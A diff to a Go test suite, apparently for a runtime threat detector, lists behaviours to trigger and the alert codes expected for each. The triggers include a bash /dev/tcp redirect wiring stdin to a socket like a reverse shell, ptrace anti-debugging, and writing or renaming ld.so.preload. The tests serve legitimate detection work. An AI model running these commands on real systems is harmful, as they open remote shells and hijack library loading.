@@ -43,7 +43,7 @@ func scenes(address string) []scene {
 				t.Skip("bash opens sockets by the name of a file; it is not here")
 			}
 			return execute(t, exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+host+"/"+port+" 0<&3"))
-		}, []string{"TRC-2310", "TRC-1 dup2 " + onSocket, "TRC-2301"}},
+		}, []string{"TRC-2310", "TRC-2911", "TRC-1 dup2 " + onSocket, "TRC-2301"}},
 		{"a connection", acted("connect", address), nil},
 
 		{"anti-debugging", acted("ptrace"), []string{"TRC-2 ptrace map[]"}},
@@ -67,6 +67,7 @@ func scenes(address string) []scene {
 		{"LD_LIBRARY_PATH", trueWith("LD_LIBRARY_PATH=/nowhere"), []string{"TRC-7 execve map[]"}},
 		{"another variable", trueWith("LD_PRELOADX=/nowhere/library.so"), nil},
 		{"writing ld.so.preload", acted("write-ld.so.preload"), []string{"TRC-7 security_file_open map[]"}},
+		{"renaming to ld.so.preload", acted("rename-ld.so.preload"), []string{"TRC-7 security_inode_rename map[]"}},
 		{"reading ld.so.preload", acted("read-ld.so.preload"), nil},
 	}
 }
